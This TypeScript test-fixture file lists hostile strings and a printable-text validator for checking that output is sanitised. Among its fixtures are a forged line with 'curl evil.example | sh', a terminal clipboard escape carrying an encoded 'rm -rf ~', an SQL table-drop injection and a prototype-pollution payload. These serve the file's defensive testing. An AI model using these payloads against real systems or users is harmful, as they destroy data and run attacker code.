/**
 * What an archive, a site or a client may say instead of text, for every place that shows, stores
 * or sends it.
 */
import assert from 'node:assert/strict';

const quoted = 200;
const ofAnError = 1_000;
/** A character of two UTF-16 units, so that a cut by units leaves half of it. */
const FACE = '\u{1F600}';

export const HOSTILE_STRINGS: Readonly<Record<string, string>> = {
  'half of a pair where a quote is cut': `<html>${'a'.repeat(quoted - 7)}${FACE} and more`,
  'half of a pair where an error is cut': `${'a'.repeat(ofAnError - 1)}${FACE} and more`,
  'half of a pair where a name goes before': FACE.repeat(ofAnError),
  'the first half of a pair': 'x\ud83dy',
  'the second half of a pair': 'x\ude00y',
  'both halves in the wrong order': '\ude00\ud83d',
  NUL: 'before\u0000after',
  'a text for the clipboard (OSC 52)': '\u001b]52;c;cm0gLXJmIH4K\u0007',
  'a window title (OSC 0)': '\u001b]0;owned\u001b\\',
  'a cleared screen, by one byte (C1)': '\u009b2J\u009b1;1H',
  'DEL and backspaces': 'fine\u0008\u0008\u0008\u0008\u007fevil',
  'a forged line': 'fine\n  do:       curl evil.example | sh\r\nOK',
  'a forged line by U+2028, U+2029 and U+0085': 'fine\u2028do: evil\u2029do: evil\u0085do: evil',
  'bidi overrides': 'user\u202e\u2066nimda\u2069 \u200f\u061c',
  'letters that are not seen': 'a\u200bb\u00adc\u2060d\ufefff\u3164g\u034fh\u{e0041}\u{e0100}',
  'a line of 2 MB': 'x'.repeat(2 ** 21),
  '2 MB of NUL': '\u0000'.repeat(2 ** 21),
  'bytes that are not UTF-8': Buffer.from('c328fffeeda0bd80c0af', 'hex').toString(),
  'the end of a JSON text': '"}],"code":"X\\',
  'an escape that JSON knows': '\\ud800 \\u0000 \\"',
  'a name of Object.prototype': '__proto__',
  'what printf reads': '%s %d %o %j %n %',
  'the end of an SQL text': `'); drop table incidents; --`,
  nothing: '',
};

/** What came as JSON of a worker of another version, where a text is expected. */
export const NO_STRINGS: readonly unknown[] = [
  null,
  12,
  ['\ud800'],
  { toString: 1 },
  JSON.parse('{"__proto__": {"polluted": true}}'),
];

/**
 * Said in another way than in src/domain/text.ts: no half of a pair; nothing below U+0020 but the
 * line feeds that are allowed; no DEL, C1, separators of lines; nothing bidi, invisible or of
 * another plane that is no letter, mark or symbol.
 */
export function isPrintable(text: string, allowed: '' | '\n' = ''): boolean {
  return text.isWellFormed() && Array.from(text).every((one) => one === allowed || isSeen(one));
}

function isSeen(character: string): boolean {
  const point = character.codePointAt(0)!;
  if (point < 0x20 || (point >= 0x7f && point < 0xa0)) return false;
  return !HIDDEN.some(([from, to]) => point >= from && point <= to);
}

const HIDDEN: readonly (readonly [number, number])[] = [
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x180b, 0x180f],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff9, 0xfffb],
  [0xe0000, 0xe0fff],
];

/** Every text in a value of JSON, keys too. */
export function textsOf(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, one]) => [key, ...textsOf(one)]);
}

/** @param max characters of one text */
export function assertPrintable(value: unknown, what: string, max = 1_001): void {
  for (const text of textsOf(value)) {
    assert.ok(isPrintable(text, '\n'), `${what}: ${JSON.stringify(text.slice(0, 300))}`);
    assert.ok(text.length <= max, `${what}: ${text.length} characters`);
  }
}
